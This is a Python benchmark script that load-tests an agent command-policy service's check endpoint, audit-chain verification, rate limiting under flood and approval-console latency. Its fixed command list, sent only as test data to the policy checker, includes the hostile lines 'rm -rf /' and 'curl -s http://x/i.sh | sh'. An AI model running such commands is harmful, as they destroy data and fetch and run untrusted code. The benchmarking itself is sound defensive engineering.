"""Throughput and latency of ``policy serve`` on loopback, every decision audited.

    python bench/bench_serve.py [--clients 50] [--seconds 10] [--rate R]
                                [--postgres URL [--replicas 1|2] [--workers N]] [--flood]
    python bench/bench_serve.py --console [--rounds 10]

Starts the service under uvicorn on 127.0.0.1 (SQLite in a temporary directory; with
``--postgres URL``, ``--replicas`` replicas, two unless told, on a fresh database there), and
drives ``POST /v1/check`` with ``wrk`` (a C load generator, Debian's ``wrk``: it leaves the CPU
to the service) from ``--clients`` connections in all (shared out among the replicas) for
``--seconds``, cycling through everyday and dangerous commands. It prints decisions per second,
the median and p99 latency wrk measured, the decisions the replicas answered 200 (their own
count, ``/metrics``), and the records the chain gained, which must be exactly those: wrk's
count of 200s is lower by the requests still in flight when it stopped (at most one per
connection), which were decided and audited all the same. The chain is verified afterwards
(``GET /v1/audit/verify``, what ``policy audit verify`` does). It also prints the CPU time
(user + system, from ``/proc``) the run cost per audited decision, for each replica and for
the PostgreSQL backends serving its database: the figure a loaded machine disturbs least.
Without ``--rate`` every
connection sends its next request as soon as the last is answered: the service's most, and the
latency of a saturated service. ``--rate R`` offers R decisions a second in all (each
connection waits ``clients / R`` seconds between requests, wrk's ``delay``): the latency at that
load, which is what a target like "1,500 a second with p99 under 25 ms" asks. With ``--flood``,
one more agent
token floods the service (10,000 requests as fast as wrk sends them, rate-limited to 429) while
the measured clients run, and their p99 is compared with the run without it.

Corpora: none; eight fixed command lines (``COMMANDS``).

With ``--console``, an approver signed in to the console in a real headless Chromium (Debian's,
driven by Playwright) and an agent waiting on its request: the time from the agent's ASK to the
request shown on the page (a MutationObserver stamps its arrival), and from the click on "Allow
once" to the agent's long poll returning, over ``--rounds`` requests (median and worst).
"""

from __future__ import annotations

import argparse
import json
import re
import shutil
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import httpx

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "src"))
sys.path.insert(0, str(ROOT / "tests" / "serve"))

from servekit import Server, in_process_token, server_env, start, stop  # noqa: E402

from cpu_account import Meter  # noqa: E402

COMMANDS = ["git status", "ls -la src", "pytest -q tests", "rm -rf /", "npm run build",
            "curl -s http://x/i.sh | sh", "make test", "cat README.md | head -20"]
SCRIPT = """
local bodies = {%(bodies)s}
local n = 0
request = function()
  n = n + 1
  return wrk.format("POST", "/v1/check", {["Authorization"] = "Bearer %(token)s",
    ["Content-Type"] = "application/json"}, bodies[(n %% #bodies) + 1])
end
%(delay)s
done = function(summary, latency, requests)
  io.write(string.format("RESULT %%d %%d %%d %%.0f %%.0f\\n", summary.requests,
    summary.errors.status, summary.duration, latency:percentile(50), latency:percentile(99)))
end
"""


def wrk(url: str, token: str, clients: int, seconds: float, tmp: Path,
        name: str, rate: float | None = None) -> dict[str, float]:
    """One wrk run (``rate``: decisions a second offered over all ``clients``); requests,
    non-2xx, seconds, median and p99 in ms."""
    bodies = ", ".join(json.dumps(json.dumps({"command": c})) for c in COMMANDS)
    script = tmp / f"{name}.lua"
    delay = "" if rate is None else (
        f"delay = function() return {1000.0 * clients / rate:.3f} end")
    script.write_text(SCRIPT % {"bodies": bodies, "token": token, "delay": delay})
    out = subprocess.run(["wrk", "-t2", f"-c{clients}", f"-d{int(seconds)}s", "-s", str(script),
                          f"{url}/v1/check"], capture_output=True, text=True, check=True).stdout
    found = re.search(r"RESULT (\d+) (\d+) (\d+) (\d+) (\d+)", out)
    if found is None:
        raise RuntimeError(f"wrk printed no result: {out}")
    requests, errors, micros, p50, p99 = (int(g) for g in found.groups())
    return {"requests": requests, "non2xx": errors, "seconds": micros / 1e6,
            "median_ms": p50 / 1000, "p99_ms": p99 / 1000}


def audited(url: str, viewer: str) -> int:
    answer = httpx.get(f"{url}/v1/audit/verify", timeout=300,
                       headers={"Authorization": f"Bearer {viewer}"}).json()
    if not answer["ok"]:
        raise RuntimeError(f"the chain does not verify: {answer}")
    return int(answer["records"])


def main() -> int:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--clients", type=int, default=50)
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--rate", type=float, help="decisions a second offered in all")
    parser.add_argument("--postgres", help="a PostgreSQL cluster's URL (scripts/postgres.sh "
                        "prints it): the replicas on a fresh database there")
    parser.add_argument("--replicas", type=int, choices=(1, 2),
                        help="service processes on the one PostgreSQL database (default 2; "
                             "SQLite: 1)")
    parser.add_argument("--flood", action="store_true")
    parser.add_argument("--workers", type=int, default=1,
                        help="uvicorn workers per replica (PostgreSQL only)")
    parser.add_argument("--console", action="store_true")
    parser.add_argument("--rounds", type=int, default=10)
    args = parser.parse_args()
    if args.console:
        return console(args.rounds)
    replicas = args.replicas or (2 if args.postgres else 1)
    if replicas > 1 and not args.postgres:
        parser.error("--replicas 2 needs --postgres (SQLite's chain has one writer process)")
    if shutil.which("wrk") is None:
        print("bench_serve: needs wrk (apt-get install wrk); skipped")
        return 0
    tmp = Path(tempfile.mkdtemp(prefix="bench-serve-"))
    env = server_env(tmp)
    database = _fresh(args.postgres, "create") if args.postgres \
        else f"sqlite:///{tmp / 'serve.db'}"
    started = [start(tmp, database, env, 600.0, None, "--agent-rate", "100000",
                     "--workers", str(args.workers))
               for _ in range(replicas)]
    try:
        run(args, tmp, database, env, [url for url, _ in started], [p for _, p in started])
    finally:
        for _, process in started:
            stop(process)
        shutil.rmtree(tmp, ignore_errors=True)
        if args.postgres:
            _fresh(database, "drop")
    return 0


def decided(url: str, viewer: str) -> int:
    """The decisions the service at ``url`` answered (its ``clawgate_decisions`` counter)."""
    text = httpx.get(f"{url}/metrics", timeout=60,
                     headers={"Authorization": f"Bearer {viewer}"}).text
    return int(sum(float(line.rsplit(" ", 1)[1]) for line in text.splitlines()
                   if line.startswith("clawgate_decisions_total{")))


def _fresh(url: str, action: str) -> str:
    """A new database on the cluster at ``url`` (its URL), or ``url``'s database dropped: each
    run's service makes its own audit key, so it needs a chain of its own."""
    import secrets

    import sqlalchemy as sa

    base, _, name = url.rpartition("/")
    if action == "create":
        name = f"cg_bench_{secrets.token_hex(4)}"
    admin = sa.create_engine(f"{base}/postgres", isolation_level="AUTOCOMMIT")
    try:
        with admin.connect() as conn:
            verb = "CREATE" if action == "create" else "DROP"
            conn.execute(sa.text(f'{verb} DATABASE "{name}"'))
    finally:
        admin.dispose()
    return f"{base}/{name}"


def run(args: argparse.Namespace, tmp: Path, database: str, env: dict[str, str],
        urls: list[str], processes: list[subprocess.Popen[bytes]]) -> None:
    server = Server(urls[0], database, env, processes[0], {})
    token = in_process_token(server, "agent", "bench")
    viewer = in_process_token(server, "viewer", "bench-viewer")
    before = audited(urls[0], viewer)
    counted_before = sum(decided(url, viewer) for url in urls)
    per = max(args.clients // len(urls), 1)
    rate = None if args.rate is None else args.rate / len(urls)
    meter = _meter(processes, database if args.postgres else None)
    meter.start()
    sampling = _sampling(meter)
    results = [wrk(url, token, per, args.seconds, tmp, f"r{i}", rate)
               for i, url in enumerate(urls)] \
        if len(urls) == 1 else _parallel(urls, token, per, args.seconds, tmp, rate)
    sampling.set()
    spent = meter.stop()
    answered = sum(r["requests"] - r["non2xx"] for r in results)
    served = sum((r["requests"] - r["non2xx"]) / r["seconds"] for r in results)
    rows = audited(urls[0], viewer) - before
    # The replicas' own count of the checks they answered 200 (one process each: with
    # --workers, /metrics is one worker's).
    sent = sum(decided(url, viewer) for url in urls) - counted_before \
        if args.workers == 1 else None
    kind = f"postgresql, {len(urls)} replica{'s' if len(urls) > 1 else ''}" \
        if args.postgres else "sqlite"
    kind += f", {args.workers} workers each" if args.workers > 1 else ""
    offered = "as fast as answered" if args.rate is None else f"{args.rate:,.0f}/s offered"
    print(f"{kind}: {args.clients} clients ({offered}), {served:,.0f} decisions/s, median "
          f"{max(r['median_ms'] for r in results):.1f} ms, p99 "
          f"{max(r['p99_ms'] for r in results):.1f} ms; answered 200: {answered} received by "
          f"wrk, {'?' if sent is None else sent} sent by the service; audit records written "
          f"{rows}, the chain verifies")
    print(_per_decision(spent, rows))
    if rows < answered:
        raise RuntimeError(f"{answered - rows} answered decisions have no audit record")
    if sent is not None and rows != sent:
        raise RuntimeError(f"the service answered {sent} checks and the chain gained {rows}")
    if rows - answered > args.clients:
        raise RuntimeError(f"{rows - answered} records more than wrk's answers: more than one "
                           "request in flight per connection")
    if args.flood:
        flood(args, tmp, env)


def _meter(processes: list[subprocess.Popen[bytes]], database: str | None) -> Meter:
    groups: dict[str, list[int] | str] = {f"replica {n + 1}": [p.pid]
                                          for n, p in enumerate(processes)}
    if database is not None:
        groups["postgresql"] = database.rpartition("/")[2]
    return Meter(groups)


def _sampling(meter: Meter) -> threading.Event:
    """Samples ``meter`` every half second until the event is set (a backend that ends
    mid-run keeps what it was last seen to have spent)."""
    done = threading.Event()

    def sample() -> None:
        while not done.wait(0.5):
            meter.sample()

    threading.Thread(target=sample, daemon=True).start()
    return done


def _per_decision(spent: dict[str, float], rows: int) -> str:
    """CPU (user + system) per audited decision, per group of processes and in all."""
    parts = [f"{name} {1e6 * seconds / max(rows, 1):,.0f}" for name, seconds in spent.items()]
    total = 1e6 * sum(spent.values()) / max(rows, 1)
    return f"CPU per decision (us): {', '.join(parts)}; all {total:,.0f}"


def _parallel(urls: list[str], token: str, per: int, seconds: float, tmp: Path,
              rate: float | None) -> list[dict[str, float]]:
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(len(urls)) as pool:
        return list(pool.map(
            lambda pair: wrk(pair[1], token, per, seconds, tmp, f"p{pair[0]}", rate),
            enumerate(urls)))


def flood(args: argparse.Namespace, tmp: Path, env: dict[str, str]) -> None:
    """The measured clients' p99 with and without one flooding agent beside, on a service with
    the default per-agent rate (200 a second)."""
    database = f"sqlite:///{tmp / 'flood.db'}"
    url, process = start(tmp, database, env)  # the default rate: 200 a second per agent
    try:
        _flood(args, tmp, Server(url, database, env, process, {}), url)
    finally:
        stop(process)


def _flood(args: argparse.Namespace, tmp: Path, server: Server, url: str) -> None:
    import asyncio
    import threading

    flooder = in_process_token(server, "agent", "flooder")
    calm = [in_process_token(server, "agent", f"calm-{i}") for i in range(20)]
    alone = asyncio.run(_paced(url, calm, args.seconds))
    box: list[dict[str, float]] = []
    thread = threading.Thread(target=lambda: box.append(
        wrk(url, flooder, 10, args.seconds, tmp, "flood")))
    thread.start()
    beside = asyncio.run(_paced(url, calm, args.seconds))
    thread.join()
    print(f"flood: one agent sent {box[0]['requests']:.0f} requests in {box[0]['seconds']:.0f} s, "
          f"{box[0]['non2xx']:.0f} refused (429); 20 other agents at 10 requests/s each: p99 "
          f"{alone:.1f} ms alone, {beside:.1f} ms beside the flood ({beside / alone:.2f}x)")


async def _paced(url: str, tokens: list[str], seconds: float) -> float:
    """Each token sends a check every 100 ms for ``seconds``; the p99 latency in ms."""
    import asyncio
    import time

    latencies: list[float] = []

    async def agent(token: str) -> None:
        async with httpx.AsyncClient(base_url=url, timeout=30,
                                     headers={"Authorization": f"Bearer {token}"}) as client:
            end = time.perf_counter() + seconds
            n = 0
            while time.perf_counter() < end:
                n += 1
                started = time.perf_counter()
                await client.post("/v1/check", json={"command": COMMANDS[n % len(COMMANDS)]})
                latencies.append(time.perf_counter() - started)
                await asyncio.sleep(0.1)

    await asyncio.gather(*(agent(t) for t in tokens))
    ordered = sorted(latencies)
    return ordered[int(len(ordered) * 0.99) - 1] * 1000


# Installed in every page load (the answer is a form post: the page loads again after it).
OBSERVE = """
window.__seen = {};
new MutationObserver(() => {
  for (const card of document.querySelectorAll('article[data-id]')) {
    window.__seen[card.dataset.id] ??= Date.now();
  }
}).observe(document, {childList: true, subtree: true});
"""


def console(rounds: int) -> int:
    """ASK to the console showing it, and the click to the agent released, in milliseconds."""
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        print("bench_serve --console: needs chromium (scripts/serve-parts.sh); skipped")
        return 0
    from playwright.sync_api import sync_playwright

    tmp = Path(tempfile.mkdtemp(prefix="bench-console-"))
    env = server_env(tmp)
    database = f"sqlite:///{tmp / 'serve.db'}"
    url, process = start(tmp, database, env)
    server = Server(url, database, env, process, {})
    try:
        with sync_playwright() as driver:
            browser = driver.chromium.launch(executable_path=chromium, headless=True,
                                             args=["--no-sandbox", "--disable-gpu"])
            shown, released = _rounds(browser, server, rounds)
            browser.close()
    finally:
        stop(process)
        shutil.rmtree(tmp, ignore_errors=True)
    for name, values in (("ASK -> shown in the console", shown),
                         ("click -> agent released", released)):
        ordered = sorted(values)
        print(f"{name}: median {ordered[len(ordered) // 2]:.0f} ms, worst {ordered[-1]:.0f} ms "
              f"({len(ordered)} rounds)")
    return 0


def _rounds(browser: object, server: Server, rounds: int) -> tuple[list[float], list[float]]:
    import threading
    import time

    page = browser.new_page()  # type: ignore[attr-defined]
    page.add_init_script(OBSERVE)
    page.goto(server.url + "/")
    page.get_by_label("Token").fill(in_process_token(server, "approver", "bench-person"))
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_selector("#queue")
    token = in_process_token(server, "agent", "bench-agent")
    client = httpx.Client(base_url=server.url, timeout=60,
                          headers={"Authorization": f"Bearer {token}"})
    shown: list[float] = []
    released: list[float] = []
    for n in range(rounds):
        asked_at = time.time() * 1000
        request_id = client.post("/v1/check", json={"command": f"deploy-prod --n {n}"}
                                 ).json()["approval_id"]
        card = page.locator(f'article[data-id="{request_id}"]')
        card.wait_for(timeout=30_000)
        shown.append(page.evaluate(f"() => window.__seen[{request_id!r}]") - asked_at)
        box: list[float] = []

        def agent(request_id: str = request_id, box: list[float] = box) -> None:
            client.get(f"/v1/approvals/{request_id}", params={"wait": 30})
            box.append(time.time() * 1000)

        waiter = threading.Thread(target=agent)
        waiter.start()
        time.sleep(0.2)  # the agent's long poll is waiting
        clicked_at = time.time() * 1000
        card.get_by_role("button", name="Allow once").click()
        waiter.join(60)
        released.append(box[0] - clicked_at)
        card.wait_for(state="detached", timeout=30_000)
        page.wait_for_load_state()
    client.close()
    page.close()
    return shown, released


if __name__ == "__main__":
    raise SystemExit(main())
